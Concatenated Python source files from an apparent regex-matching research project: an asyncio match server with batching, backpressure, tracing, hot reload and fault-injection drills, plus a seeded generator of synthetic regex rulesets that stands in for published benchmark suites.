        self._dispatcher = asyncio.create_task(self._dispatch_loop())
        self._dispatcher.add_done_callback(self._on_dispatcher_done)

    def _on_dispatcher_done(self, task: asyncio.Task) -> None:
        """Last line of defence: the dispatcher must not die silently.

        ``_process`` guards every per-request path, so reaching here with
        an exception means a bug escaped — restart the loop so queued
        requests keep draining instead of 429-ing forever.
        """
        if task.cancelled() or not self._running:
            return
        exc = task.exception()
        if exc is None:
            return
        _log.error("serve dispatcher died unexpectedly (%r); restarting", exc)
        self.metrics.count(
            "serve_dispatcher_restarts_total",
            "dispatcher tasks restarted after an unexpected death",
        )
        self._spawn_dispatcher()

    async def _wait_drained(self) -> None:
        while (self._queue is not None and self._queue.qsize() > 0) or self._inflight:
            await asyncio.sleep(0.01)

    async def stop(self, drain_timeout: float = 5.0) -> None:
        """Drain, then stop: answer queued work before killing the loop.

        New submissions are rejected the moment draining starts; requests
        already queued or in flight get up to ``drain_timeout`` seconds
        to complete, and anything still queued after that is answered
        with an explicit shutting-down rejection — clients never learn of
        a shutdown only via a closed connection.
        """
        self._draining = True
        if self._heartbeat_task is not None:
            self._heartbeat_task.cancel()
            try:
                await self._heartbeat_task
            except asyncio.CancelledError:
                pass
            self._heartbeat_task = None
        if self._dispatcher is not None and drain_timeout > 0:
            try:
                await asyncio.wait_for(self._wait_drained(), timeout=drain_timeout)
            except asyncio.TimeoutError:
                pass
        self._running = False
        if self._dispatcher is not None:
            self._dispatcher.cancel()
            try:
                await self._dispatcher
            except asyncio.CancelledError:
                pass
            self._dispatcher = None
        if self._queue is not None:
            while True:
                try:
                    pending = self._queue.get_nowait()
                except asyncio.QueueEmpty:
                    break
                self.requests_rejected += 1
                self.metrics.count(
                    "serve_rejected_total",
                    "requests rejected by backpressure (queue full)",
                )
                self._finish_span(pending, status="error")
                await self._try_reply(
                    pending,
                    error_response(
                        pending.request.id, "rejected", "server shutting down"
                    ),
                )
        self.pool.close()
        if self._owns_registry:
            from repro.obs import metrics as _obs_metrics

            _obs_metrics.disable()
            self._owns_registry = False
        if self._owns_tracer:
            from repro.obs import spans as _obs_spans

            _obs_spans.disable()
            self._owns_tracer = False

    @staticmethod
    def _finish_span(pending: _Pending, status: Optional[str] = None) -> None:
        """Close the request's root span exactly once (no-op when off)."""
        span = pending.span
        if isinstance(span, obs.Span) and span.end is None:
            obs.end_span(span, status=status)

    # -- intake ------------------------------------------------------------

    def _deadline_for(self, request: MatchRequest) -> Optional[float]:
        if request.deadline_ms is not None:
            return request.deadline_ms / 1000.0
        return self.config.default_deadline

    async def submit(
        self,
        request: MatchRequest,
        reply: Callable[[dict[str, Any]], Awaitable[None]],
    ) -> None:
        """Enqueue a match request, or answer 429 when the queue is full.

        The budget deadline starts *here* — queue wait counts against
        the request's wall clock, as a client sees it.
        """
        assert self._queue is not None, "service not started"
        if self._draining:
            self.requests_rejected += 1
            self.metrics.count(
                "serve_rejected_total", "requests rejected by backpressure (queue full)"
            )
            await reply(
                error_response(request.id, "rejected", "server shutting down")
            )
            return
        if request.request_key is not None:
            stored = self.dedup.get(request.request_key)
            if stored is not None:
                # an idempotent retry of work that already completed —
                # the first reply was lost, not the scan.  Replay the
                # stored answer under the retry's id; never scan twice.
                self.requests_deduped += 1
                self.metrics.count(
                    "serve_dedup_replays_total",
                    "responses replayed from the idempotent-retry window",
                )
                replayed = dict(stored)
                replayed["id"] = request.id
                replayed["deduped"] = True
                await reply(replayed)
                return
        if self.admission is not None and self.admission.should_shed():
            # standing overload: the *minimum* queue wait has stayed
            # above target — shed now with a backoff hint instead of
            # queueing into a latency cliff
            hint = self.admission.shed()
            self.requests_rejected += 1
            self.metrics.count(
                "serve_admission_shed_total",
                "requests shed by the admission controller",
            )
            self.metrics.count(
                "serve_rejected_total", "requests rejected by backpressure (queue full)"
            )
            document = error_response(
                request.id, "rejected",
                f"overloaded (queue wait floor above {self.admission.target}s); retry later",
            )
            document["retry_after_ms"] = round(hint * 1000.0, 3)
            await reply(document)
            return
        deadline = self._deadline_for(request)
        meter = Budget(deadline=deadline).start() if deadline is not None else None
        trace_id = request.trace_id
        span: Any = obs.NOOP_SPAN
        if obs.get_tracer() is not None:
            if trace_id is None and (self.config.trace_requests or request.ship_spans):
                trace_id = obs.new_trace_id()
            # the root span opens *before* enqueued_at is taken so the
            # queue-wait child starts inside its parent's interval
            span = obs.begin_span(
                "serve.request",
                trace_id=trace_id,
                request_id=request.id,
                bytes=len(request.payload),
            )
        pending = _Pending(
            request=request, reply=reply, meter=meter,
            enqueued_at=time.perf_counter(), span=span, trace_id=trace_id,
        )
        try:
            self._queue.put_nowait(pending)
        except asyncio.QueueFull:
            self.requests_rejected += 1
            self.metrics.count(
                "serve_rejected_total", "requests rejected by backpressure (queue full)"
            )
            self._finish_span(pending, status="error")
            document = error_response(
                request.id, "rejected",
                f"queue full ({self.config.queue_depth} deep); retry later",
            )
            if self.admission is not None:
                document["retry_after_ms"] = round(
                    (self.admission.min_wait() or self.admission.target) * 1000.0, 3
                )
            await reply(document)
            return
        self.metrics.gauge(
            "serve_queue_depth", "match requests waiting for dispatch",
            self._queue.qsize(),
        )

    # -- dispatch ----------------------------------------------------------

    async def _dispatch_loop(self) -> None:
        assert self._queue is not None
        while True:
            batch = [await self._queue.get()]
            while len(batch) < self.config.batch_max:
                try:
                    batch.append(self._queue.get_nowait())
                except asyncio.QueueEmpty:
                    break
            self.batches += 1
            self.metrics.count("serve_batches_total", "dispatch cycles executed")
            self.metrics.observe(
                "serve_batch_size", "requests coalesced per dispatch cycle",
                len(batch), bounds=_BATCH_BUCKETS,
            )
            self.metrics.gauge(
                "serve_queue_depth", "match requests waiting for dispatch",
                self._queue.qsize(),
            )
            self._inflight = len(batch)
            try:
                with obs.span("serve.batch", requests=len(batch)):
                    # _process guards itself; return_exceptions is the
                    # backstop that keeps one bad request from killing
                    # the dispatcher (and with it the whole service)
                    await asyncio.gather(
                        *(self._process(pending) for pending in batch),
                        return_exceptions=True,
                    )
            finally:
                self._inflight = 0
            if self._owns_tracer:
                tracer = obs.get_tracer()
                if tracer is not None:
                    tracer.prune(self.config.trace_max_age)

    async def _try_reply(self, pending: _Pending, document: dict[str, Any]) -> None:
        """Best-effort reply: a vanished client must not take the
        dispatcher (or the rest of the batch) down with it."""
        try:
            await pending.reply(document)
        except Exception:
            pass

    async def _process(self, pending: _Pending) -> None:
        request = pending.request
        try:
            await self._process_inner(pending)
            self._finish_span(pending)
        except FrameError as exc:
            # the response document itself could not be framed (e.g. a
            # match set above MAX_FRAME_BYTES): nothing hit the wire, so
            # the connection framing is intact — answer with a small 500
            self._finish_span(pending, status="error")
            self.metrics.count("serve_errors_total", "requests failed with an error")
            await self._try_reply(
                pending,
                error_response(
                    request.id, "error", f"response exceeds frame ceiling: {exc}"
                ),
            )
        except ReproError as exc:
            self._finish_span(pending, status="error")
            self.metrics.count("serve_errors_total", "requests failed with an error")
            await self._try_reply(pending, error_response(request.id, "error", str(exc)))
        except (ConnectionResetError, BrokenPipeError, OSError):
            self._finish_span(pending, status="error")
        except Exception as exc:
            # anything else is a bug, but one request's bug: answer 500
            # and keep the dispatcher alive for everyone else
            _log.exception("unexpected error processing request %s", request.id)
            self._finish_span(pending, status="error")
            self.metrics.count("serve_errors_total", "requests failed with an error")
            await self._try_reply(
                pending, error_response(request.id, "error", f"internal error: {exc}")
            )

    async def _process_inner(self, pending: _Pending) -> None:
        request = pending.request
        self.requests_handled += 1
        self.metrics.count("serve_requests_total", "match requests processed")
        self.metrics.observe(
            "serve_request_bytes", "payload bytes per match request",
            len(request.payload), bounds=_BYTES_BUCKETS,
        )
        dispatched_at = time.perf_counter()
        queue_wait = dispatched_at - pending.enqueued_at
        self.metrics.observe(
            "serve_queue_wait_seconds", "time spent queued before dispatch",
            queue_wait, bounds=_WAIT_BUCKETS,
        )
        if self.admission is not None:
            self.admission.observe(queue_wait)
        obs.record_span(
            "serve.queue_wait", pending.enqueued_at, dispatched_at,
            parent=pending.span if isinstance(pending.span, obs.Span) else None,
        )
        remaining: Optional[float] = None
        if pending.meter is not None:
            try:
                pending.meter.check_deadline(stage="serve-queue")
            except DeadlineExceeded as exc:
                # the deadline died in the queue: answer partial-empty
                # rather than scanning work the client has given up on
                self.requests_partial += 1
                self.metrics.count(
                    "serve_partial_total", "requests answered with partial results"
                )
                self._finish_span(pending)
                await pending.reply(
                    match_response(
                        request.id, "partial", matches=set(),
                        stats=None, error=str(exc), shards=0,
                        backend=self.pool.backend,
                    )
                )
                return
            remaining = pending.meter.deadline_at - time.perf_counter()
        scan_started = time.perf_counter()
        pool = self._acquire_pool()
        try:
            result = await asyncio.to_thread(
                pool.scan,
                request.payload,
                deadline=remaining,
                single_match=request.single_match,
                trace_id=pending.trace_id,
                parent=pending.span if isinstance(pending.span, obs.Span) else None,
            )
        finally:
            pool.release()
        self.metrics.observe(
            "serve_scan_seconds", "shard-pool scan wall seconds per request",
            time.perf_counter() - scan_started, bounds=_WAIT_BUCKETS,
        )
        status = "partial" if result.partial else "ok"
        if result.partial:
            self.requests_partial += 1
            self.metrics.count(
                "serve_partial_total", "requests answered with partial results"
            )
        extra: dict[str, Any] = {}
        if result.all_offsets_rules:
            # ε-accepting rules stay compact on the wire; the client
            # expands them against its own copy of the payload length
            extra["all_offsets_rules"] = result.all_offsets_rules
        document = match_response(
            request.id,
            status,
            matches=result.matches,
            stats=result.stats.as_dict(),
            backend=result.backend,
            shards=result.shards,
            timed_out_shards=result.timed_out_shards,
            degradations=[
                {"from": s.from_backend, "to": s.to_backend, "reason": s.reason}
                for s in result.degradations
            ],
            **extra,
        )
        tracer = obs.get_tracer()
        if request.ship_spans and tracer is not None and pending.trace_id is not None:
            # a traced response: dry-encode to measure framing, close the
            # request span, and ship every span of this trace back to the
            # client for stitching.  The pop keeps a service-owned tracer
            # bounded; an ambient one (--trace-out) keeps its copy.
            frame_started = time.perf_counter()
            encode_frame(document)  # FrameError → _process answers 500
            frame_ended = time.perf_counter()
            self.metrics.observe(
                "serve_frame_seconds", "response framing wall seconds",
                frame_ended - frame_started, bounds=_WAIT_BUCKETS,
            )
            obs.record_span(
                "serve.frame", frame_started, frame_ended,
                parent=pending.span if isinstance(pending.span, obs.Span) else None,
            )
            self._finish_span(pending)
            document["spans"] = tracer.export_spans(
                trace_id=pending.trace_id, pop=self._owns_tracer
            )
        if request.request_key is not None:
            # remember the completed answer *before* the reply attempt:
            # the reply is exactly the part that can get lost, and a
            # retry must find the result waiting.  Span rows stay out —
            # a replay is not a re-trace.
            self.dedup.put(
                request.request_key,
                {key: value for key, value in document.items() if key != "spans"},
            )
        reply_started = time.perf_counter()
        await pending.reply(document)
        self.metrics.observe(
            "serve_reply_seconds", "frame-encode + socket-write wall seconds",
            time.perf_counter() - reply_started, bounds=_WAIT_BUCKETS,
        )

    # -- supervision / reload ----------------------------------------------

    async def _heartbeat_loop(self) -> None:
        """Probe a worker slot every ``heartbeat_interval`` seconds so a
        dead or wedged executor is caught (and rebuilt) between requests
        instead of on the first victim request."""
        assert self.config.heartbeat_interval is not None
        while True:
            await asyncio.sleep(self.config.heartbeat_interval)
            try:
                pool = self._acquire_pool()
            except Exception:
                continue
            try:
                ok = await asyncio.to_thread(
                    pool.heartbeat, self.config.heartbeat_timeout
                )
            except Exception:
                ok = False
            finally:
                pool.release()
            self.metrics.gauge(
                "serve_heartbeat_ok",
                "1 when the most recent worker heartbeat came back in time",
                1.0 if ok else 0.0,
            )

    async def reload(self, patterns: Sequence[str]) -> dict[str, Any]:
        """Compile ``patterns`` off the event loop and atomically swap
        the shard pool — the hot-reload op.

        The swap is one attribute write; requests already pinned to the
        old pool finish on the old engines (the refcount keeps its
        executor alive until they release), requests submitted after the
        write scan the new ruleset.  Nothing is dropped in between.  A
        failed compile leaves the serving pool untouched.
        """
        if self.store is None:
            raise UsageError("reload needs an artifact store (start the service with one)")
        assert self._reload_lock is not None, "service not started"
        async with self._reload_lock:
            artifact = await asyncio.to_thread(
                self.store.get_or_compile, list(patterns)
            )
            new_pool = self._build_pool(artifact)
            old_pool, self.pool = self.pool, new_pool
            self.artifact = artifact
            self.reload_swaps += 1
            self.metrics.count(
                "serve_reload_swaps_total",
                "hot ruleset reloads that swapped the shard pool",
            )
            # retire off-loop: close() blocks only until in-flight scans
            # on the old pool release their pins
            await asyncio.to_thread(old_pool.close)
        return {
            "ruleset_key": artifact.key,
            "rules": artifact.num_rules,
            "swaps": self.reload_swaps,
        }

    def health_snapshot(self) -> dict[str, Any]:
        """Liveness vs readiness, decomposed per subsystem.

        ``healthy`` = the dispatcher is alive (restart-on-death makes
        this nearly always true while the process lives); ``ready`` =
        healthy *and* accepting work at full capacity: not draining, the
        worker breaker closed, the last heartbeat (if any ran) answered.
        Load-balancers pull a not-ready instance; only a dead one gets
        restarted.
        """
        dispatcher_alive = (
            self._running
            and self._dispatcher is not None
            and not self._dispatcher.done()
        )
        breaker_open = self.supervisor.breaker_open()
        checks = {
            "dispatcher": dispatcher_alive,
            "not_draining": not self._draining,
            "worker_breaker_closed": not breaker_open,
            "worker_heartbeat": self.pool.last_heartbeat_ok is not False,
            "queue_has_room": (
                self._queue is not None
                and self._queue.qsize() < self.config.queue_depth
            ),
            "admission_open": self.admission is None or not self.admission.should_shed(),
        }
        healthy = dispatcher_alive
        ready = (
            healthy
            and checks["not_draining"]
            and checks["worker_breaker_closed"]
            and checks["worker_heartbeat"]
        )
        return {
            "healthy": healthy,
            "ready": ready,
            "checks": checks,
            "supervisor": self.supervisor.snapshot(),
        }

    # -- introspection -----------------------------------------------------

    def stats_snapshot(self) -> dict[str, Any]:
        return {
            "ruleset_key": self.artifact.key,
            "rules": self.artifact.num_rules,
            "mfsas": len(self.artifact.mfsas),
            "loaded_from_cache": self.artifact.loaded_from_cache,
            "backend": self.pool.backend,
            "mode": self.pool.mode,
            "shards": self.config.shards,
            "batch_max": self.config.batch_max,
            "queue_depth": self.config.queue_depth,
            "queued": self._queue.qsize() if self._queue is not None else 0,
            "overlap": self.pool.overlap,
            "strategy": self.pool.scan_strategy,
            "requests_handled": self.requests_handled,
            "requests_rejected": self.requests_rejected,
            "requests_partial": self.requests_partial,
            "requests_deduped": self.requests_deduped,
            "batches": self.batches,
            "degradations": len(self.pool.degradations),
            "reload_swaps": self.reload_swaps,
            "dedup_window": {"entries": len(self.dedup), "hits": self.dedup.hits},
            "admission": (
                {
                    "target_s": self.admission.target,
                    "wait_floor_s": self.admission.min_wait(),
                    "shed_total": self.admission.shed_total,
                }
                if self.admission is not None
                else None
            ),
            "supervisor": self.supervisor.snapshot(),
        }

    def metrics_snapshot(self) -> Optional[dict[str, Any]]:
        """Every active-registry instrument, snapshotted (None when off)."""
        registry = obs.get_registry()
        return registry.as_dict() if registry is not None else None

    def latency_snapshot(self) -> Optional[dict[str, Any]]:
        """Per-phase latency percentiles in milliseconds (None when off).

        One entry per ``serve_*_seconds`` histogram that has data:
        ``{"serve_scan_seconds": {"count": n, "p50": ..., "p90": ...,
        "p95": ..., "p99": ..., "mean": ...}}`` — the decomposition the
        ``stats`` op, ``repro client --stats`` and ``repro obs top``
        render.
        """
        registry = obs.get_registry()
        if registry is None:
            return None
        out: dict[str, Any] = {}
        for inst in registry.instruments():
            if inst.kind != "histogram" or not inst.name.endswith("_seconds"):
                continue
            if not inst.name.startswith("serve_") or not inst.count:
                continue
            quantiles = inst.quantiles((0.5, 0.9, 0.95, 0.99))
            out[inst.name] = {
                "count": inst.count,
                "mean": round(inst.mean * 1e3, 6),
                **{
                    label: (round(value * 1e3, 6) if value is not None else None)
                    for label, value in quantiles.items()
                },
            }
        return out


class MatchServer:
    """asyncio socket server speaking the serve protocol."""

    def __init__(
        self,
        service: MatchService,
        host: Optional[str] = None,
        port: Optional[int] = None,
        socket_path: Optional[str] = None,
    ) -> None:
        if (socket_path is None) == (host is None and port is None):
            raise UsageError("specify either socket_path or host+port, not both")
        self.service = service
        self.host = host or "127.0.0.1"
        self.port = port
        self.socket_path = socket_path
        self._server: Optional[asyncio.base_events.Server] = None
        self._stopping = asyncio.Event()

    # -- lifecycle ---------------------------------------------------------

    @property
    def address(self) -> tuple[str, int] | str:
        """Where the server is reachable (set after :meth:`start`)."""
        if self.socket_path is not None:
            return self.socket_path
        assert self._server is not None, "server not started"
        return self._server.sockets[0].getsockname()[:2]

    async def start(self) -> None:
        await self.service.start()
        if self.socket_path is not None:
            # asyncio only unlinks the socket file on close from 3.13 on;
            # a previous instance's stale file would otherwise both break
            # the bind and misdirect clients into "connection refused".
            path = Path(self.socket_path)
            if path.is_socket():
                path.unlink(missing_ok=True)
            self._server = await asyncio.start_unix_server(
                self._handle_connection, path=self.socket_path
            )
        else:
            self._server = await asyncio.start_server(
                self._handle_connection, host=self.host, port=self.port or 0
            )
            self.port = self._server.sockets[0].getsockname()[1]

    async def serve_until_stopped(self) -> None:
        assert self._server is not None, "call start() first"
        async with self._server:
            await self._stopping.wait()
        await self.service.stop()
        if self.socket_path is not None:
            Path(self.socket_path).unlink(missing_ok=True)

    async def run(self) -> None:
        await self.start()
        await self.serve_until_stopped()

    def request_stop(self) -> None:
        self._stopping.set()

    # -- connection handling ----------------------------------------------

    async def _handle_connection(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        write_lock = asyncio.Lock()

        async def reply(document: dict[str, Any]) -> None:
            frame = encode_frame(document)  # FrameError surfaces to the caller
            async with write_lock:
                if writer.is_closing():
                    return
                if faultinject.decide("serve.conn.drop"):
                    # drill: the reply vanishes and the connection dies —
                    # the client sees EOF where a frame was due
                    self.service.metrics.count(
                        "serve_fault_conn_drops_total",
                        "replies dropped by the serve.conn.drop drill",
                    )
                    writer.close()
                    return
                try:
                    if faultinject.decide("serve.frame.truncate"):
                        # drill: half a frame, then EOF — the torn-frame
                        # case the client's ConnectionLost handling owns
                        self.service.metrics.count(
                            "serve_fault_frame_truncations_total",
                            "replies truncated by the serve.frame.truncate drill",
                        )
                        writer.write(frame[: max(1, len(frame) // 2)])
                        await writer.drain()
                        writer.close()
                        return
                    writer.write(frame)
                    await writer.drain()
                except (ConnectionResetError, BrokenPipeError, OSError):
                    # the is_closing() check races with connection_lost:
                    # a client that reset mid-reply gets nothing, and the
                    # read loop will observe EOF and close up
                    pass

        try:
            while True:
                try:
                    prefix = await reader.readexactly(4)
                except (asyncio.IncompleteReadError, ConnectionResetError):
                    break
                try:
                    body = await reader.readexactly(frame_length(prefix))
                    document = decode_body(body)
                except FrameError as exc:
                    await reply(error_response(None, "bad-request", str(exc)))
                    break  # framing is lost; close the connection
                except (asyncio.IncompleteReadError, ConnectionResetError):
                    break
                await self._handle_document(document, reply)
        except asyncio.CancelledError:
            pass  # loop shutdown while blocked on a read: close quietly
        finally:
            writer.close()
            try:
                await writer.wait_closed()
            except (ConnectionResetError, BrokenPipeError, asyncio.CancelledError):
                pass

    async def _handle_document(
        self, document: dict[str, Any], reply: Callable[[dict[str, Any]], Awaitable[None]]
    ) -> None:
        op = document.get("op", "match")
        request_id = document.get("id")
        if op == "ping":
            await reply({"id": request_id, "status": "ok", "code": 200, "op": "ping"})
        elif op == "stats":
            response: dict[str, Any] = {
                "id": request_id,
                "status": "ok",
                "code": 200,
                "op": "stats",
                "server": self.service.stats_snapshot(),
            }
            metrics = self.service.metrics_snapshot()
            if metrics is not None:
                response["metrics"] = metrics
                response["latency_ms"] = self.service.latency_snapshot()
            if document.get("prometheus"):
                registry = obs.get_registry()
                if registry is not None:
                    from repro.obs.exporters import metrics_to_prometheus

                    response["prometheus"] = metrics_to_prometheus(registry)
            await reply(response)
        elif op == "health":
            snapshot = self.service.health_snapshot()
            status = "ok" if snapshot["ready"] else "unavailable"
            await reply(
                {
                    "id": request_id,
                    "status": status,
                    "code": STATUS_CODES[status],
                    "op": "health",
                    **snapshot,
                }
            )
        elif op == "reload":
            if not self.service.config.allow_reload:
                await reply(
                    error_response(request_id, "bad-request", "reload is disabled")
                )
                return
            patterns = document.get("patterns")
            if (
                not isinstance(patterns, list)
                or not patterns
                or not all(isinstance(p, str) and p for p in patterns)
            ):
                await reply(
                    error_response(
                        request_id, "bad-request",
                        "'patterns' must be a non-empty list of pattern strings",
                    )
                )
                return
            try:
                info = await self.service.reload(patterns)
            except ReproError as exc:
                await reply(error_response(request_id, "error", str(exc)))
                return
            await reply(
                {"id": request_id, "status": "ok", "code": 200, "op": "reload", **info}
            )
        elif op == "shutdown":
            if not self.service.config.allow_shutdown:
                await reply(
                    error_response(request_id, "bad-request", "shutdown is disabled")
                )
                return
            await reply({"id": request_id, "status": "ok", "code": 200, "op": "shutdown"})
            self.request_stop()
        elif op == "match":
            try:
                request = MatchRequest.from_document(document)
            except FrameError as exc:
                await reply(error_response(request_id, "bad-request", str(exc)))
                return
            await self.service.submit(request, reply)
        else:
            await reply(error_response(request_id, "bad-request", f"unknown op {op!r}"))


class ServerThread:
    """Run a :class:`MatchServer` on a daemon thread (sync callers).

    ::

        with ServerThread(artifact, config, socket_path=path) as address:
            client = MatchClient.connect(address)
    """

    def __init__(
        self,
        artifact: Artifact,
        config: ServeConfig | None = None,
        host: Optional[str] = None,
        port: Optional[int] = None,
        socket_path: Optional[str] = None,
        store: Optional[ArtifactStore] = None,
    ) -> None:
        if socket_path is None and host is None and port is None:
            host, port = "127.0.0.1", 0
        self.service = MatchService(artifact, config, store=store)
        self._host, self._port, self._socket_path = host, port, socket_path
        self._ready = threading.Event()
        self._startup_error: Optional[BaseException] = None
        self._loop: Optional[asyncio.AbstractEventLoop] = None
        self._server: Optional[MatchServer] = None
        self._thread = threading.Thread(target=self._run, daemon=True, name="repro-serve")

    def _run(self) -> None:
        async def main() -> None:
            self._server = MatchServer(
                self.service, host=self._host, port=self._port,
                socket_path=self._socket_path,
            )
            try:
                await self._server.start()
            except BaseException as exc:  # surface bind errors to the caller
                self._startup_error = exc
                self._ready.set()
                raise
            self._loop = asyncio.get_running_loop()
            self._ready.set()
            await self._server.serve_until_stopped()

        try:
            asyncio.run(main())
        except BaseException:
            if not self._ready.is_set():
                self._ready.set()

    def start(self) -> "ServerThread":
        self._thread.start()
        self._ready.wait(timeout=30)
        if self._startup_error is not None:
            raise self._startup_error
        if self._server is None or self._loop is None:
            raise UsageError("server failed to start within 30s")
        return self

    @property
    def address(self) -> tuple[str, int] | str:
        assert self._server is not None
        return self._server.address

    def stop(self, timeout: float = 10.0) -> None:
        if self._loop is not None and self._server is not None:
            try:
                self._loop.call_soon_threadsafe(self._server.request_stop)
            except RuntimeError:
                pass  # loop already closed
        self._thread.join(timeout=timeout)

    def __enter__(self) -> tuple[str, int] | str:
        self.start()
        return self.address

    def __exit__(self, *exc_info) -> None:
        self.stop()


#: batch-size buckets 1..batch caps
_BATCH_BUCKETS = tuple(float(2 ** i) for i in range(9))
#: payload-size buckets: 64 B … 64 MiB
_BYTES_BUCKETS = tuple(64.0 * (4 ** i) for i in range(11))
#: queue-wait buckets: 100 µs … ~1.6 s
_WAIT_BUCKETS = tuple(0.0001 * (2 ** i) for i in range(15))
