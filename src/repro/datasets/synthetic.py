"""Seeded synthetic ruleset generation (DESIGN.md §3, substitution 1).

Every RE is a concatenation of *segments*; a segment is either drawn from
the suite's shared motif pool (producing the inter-RE similarity that
merging exploits) or freshly random.  Decorations — character classes,
``.*`` infixes, alternations, bounded repeats — are applied at the rates
the profile prescribes, mimicking each original suite's flavour.

Generation is fully deterministic given the profile (which embeds its
seed), so compression/throughput results are reproducible run to run.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.datasets.profiles import DatasetProfile

_ERE_SPECIAL = set(".^$*+?()[]{}|\\")


def _escape(ch: str) -> str:
    return "\\" + ch if ch in _ERE_SPECIAL else ch


@dataclass
class Ruleset:
    """A generated suite: patterns plus the literal material behind them.

    ``literal_cores`` holds each RE's undecorated literal skeleton — the
    strings the Fig. 1 INDEL analysis runs on (the paper computes INDEL
    over the REs' string content) and that stream generation plants to
    control the hit rate.
    """

    profile: DatasetProfile
    patterns: list[str] = field(default_factory=list)
    literal_cores: list[str] = field(default_factory=list)
    motifs: list[str] = field(default_factory=list)

    @property
    def name(self) -> str:
        return self.profile.abbr

    def __len__(self) -> int:
        return len(self.patterns)


def generate_ruleset(profile: DatasetProfile) -> Ruleset:
    """Generate the suite for ``profile`` (deterministic)."""
    rng = random.Random(profile.seed)
    motifs = _motif_pool(rng, profile)
    ruleset = Ruleset(profile=profile, motifs=list(motifs))
    seen: set[str] = set()
    while len(ruleset.patterns) < profile.num_res:
        pattern, core = _generate_re(rng, profile, motifs)
        if pattern in seen:
            continue
        seen.add(pattern)
        ruleset.patterns.append(pattern)
        ruleset.literal_cores.append(core)
    return ruleset


def _motif_pool(rng: random.Random, profile: DatasetProfile) -> list[str]:
    pool: set[str] = set()
    lo, hi = profile.motif_len
    while len(pool) < profile.motif_pool:
        length = rng.randint(lo, hi)
        pool.add("".join(rng.choice(profile.alphabet) for _ in range(length)))
    return sorted(pool)


def _generate_re(
    rng: random.Random,
    profile: DatasetProfile,
    motifs: list[str],
) -> tuple[str, str]:
    """One RE: returns (pattern, literal core)."""
    lo, hi = profile.segments_per_re
    num_segments = rng.randint(lo, hi)
    parts: list[str] = []
    core_parts: list[str] = []
    for index in range(num_segments):
        literal = _pick_segment(rng, profile, motifs)
        core_parts.append(literal)
        segment = _decorate_segment(rng, profile, literal)
        if index > 0 and rng.random() < profile.dotstar_prob:
            parts.append(".*")
        parts.append(segment)
    return "".join(parts), "".join(core_parts)


def _pick_segment(rng: random.Random, profile: DatasetProfile, motifs: list[str]) -> str:
    if motifs and rng.random() < profile.share_prob:
        return rng.choice(motifs)
    lo, hi = profile.motif_len
    length = rng.randint(lo, hi)
    return "".join(rng.choice(profile.alphabet) for _ in range(length))


def _decorate_segment(rng: random.Random, profile: DatasetProfile, literal: str) -> str:
    """Apply profile-rate decorations to a literal segment."""
    rendered: list[str] = []
    for ch in literal:
        if rng.random() < profile.cc_prob:
            rendered.append(_character_class(rng, profile, ch))
        else:
            rendered.append(_escape(ch))
    segment = "".join(rendered)

    if len(literal) >= 2 and rng.random() < profile.alt_prob:
        variant = _variant_of(rng, profile, literal)
        segment = f"({segment}|{variant})"

    if rng.random() < profile.rep_prob:
        low = rng.randint(1, 2)
        high = low + rng.randint(0, 2)
        segment = segment if segment.startswith("(") else f"({segment})"
        segment = f"{segment}{{{low},{high}}}"
    elif rng.random() < profile.plus_prob:
        # '+' binds to the last atom (group, class or character) — all of
        # which a decorated segment legally ends with.
        segment += "+"
    return segment


def _variant_of(rng: random.Random, profile: DatasetProfile, literal: str) -> str:
    """A near-copy of the literal with one substituted character."""
    position = rng.randrange(len(literal))
    replacement = rng.choice(profile.alphabet)
    variant = literal[:position] + replacement + literal[position + 1 :]
    return "".join(_escape(c) for c in variant)


def _character_class(rng: random.Random, profile: DatasetProfile, ch: str) -> str:
    """A bracket expression containing ``ch`` plus random alphabet chars,
    rendered as an explicit member list or a compact range."""
    lo, hi = profile.cc_width
    width = rng.randint(lo, hi)
    if rng.random() < 0.5:
        # contiguous range around ch inside the alphabet ordering
        ordered = sorted(set(profile.alphabet))
        anchor = ordered.index(ch) if ch in ordered else 0
        start = max(0, anchor - rng.randint(0, width - 1))
        end = min(len(ordered) - 1, start + width - 1)
        members = ordered[start : end + 1]
        if len(members) >= 3 and _is_contiguous(members):
            return f"[{members[0]}-{members[-1]}]"
        return "[" + "".join(members) + "]"
    members_set = {ch}
    while len(members_set) < width:
        members_set.add(rng.choice(profile.alphabet))
    return "[" + "".join(sorted(members_set)) + "]"


def _is_contiguous(members: list[str]) -> bool:
    codes = [ord(c) for c in members]
    return all(b - a == 1 for a, b in zip(codes, codes[1:]))


def save_ruleset(ruleset: Ruleset, path) -> None:
    """Write a generated suite as a .rules file (one ERE per line, with a
    provenance header) — the artifact ships "a copy of the executed REs"
    the same way."""
    from pathlib import Path

    profile = ruleset.profile
    header = (
        f"# synthetic suite {profile.abbr} ({profile.name})\n"
        f"# seed={profile.seed:#x} num_res={profile.num_res} "
        f"motif_pool={profile.motif_pool} share_prob={profile.share_prob}\n"
    )
    Path(path).write_text(header + "\n".join(ruleset.patterns) + "\n")


def load_ruleset_file(path) -> list[str]:
    """Read a .rules file (one ERE per line, '#' comments) into patterns."""
    from pathlib import Path

    patterns = []
    for line in Path(path).read_text().splitlines():
        line = line.strip()
        if line and not line.startswith("#"):
            patterns.append(line)
    return patterns
