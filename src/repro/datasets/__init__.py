"""Dataset substrate: synthetic stand-ins for the paper's six rulesets.

The paper evaluates on Bro217, Dotstar09, PowerEN, Protomata, Ranges1 and
TCP-ExactMatch (ANMLZoo + Becchi et al.).  Those rulesets are not
redistributable here, so :mod:`repro.datasets.synthetic` generates seeded
synthetic suites whose *structural properties* — RE count, automaton
size, character-class density, dot-star usage and (crucially) the
morphological similarity the merging exploits — mimic each original's
published profile (Table I / Fig. 1).  See DESIGN.md §3, substitution 1.
"""

from repro.datasets.profiles import (
    DATASET_PROFILES,
    DatasetProfile,
    get_profile,
)
from repro.datasets.synthetic import Ruleset, generate_ruleset
from repro.datasets.streams import generate_adversarial_stream, generate_stream
from repro.datasets.builtin_loader import BuiltinRuleset, list_builtin, load_builtin

__all__ = [
    "DATASET_PROFILES",
    "DatasetProfile",
    "get_profile",
    "Ruleset",
    "generate_ruleset",
    "generate_stream",
    "generate_adversarial_stream",
    "BuiltinRuleset",
    "list_builtin",
    "load_builtin",
]
