"""Profiles of the six evaluation rulesets (paper Table I).

Each :class:`DatasetProfile` parameterises the synthetic generator so the
resulting suite mimics the original's published characteristics:

====== ======================== ============ ============= ==============
Abbr.  Original                 #REs         Avg states    Character
====== ======================== ============ ============= ==============
